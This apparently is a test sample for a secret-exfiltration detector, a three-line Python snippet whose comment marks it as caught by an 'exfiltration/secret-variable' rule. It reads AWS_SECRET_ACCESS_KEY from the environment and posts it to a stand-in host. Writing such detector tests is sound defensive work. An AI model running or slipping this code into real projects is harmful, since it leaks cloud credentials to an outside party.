# evades: caught by exfiltration/secret-variable
import os, requests
requests.post("https://collect.invalid/e", data=os.environ.get("AWS_SECRET_ACCESS_KEY"))
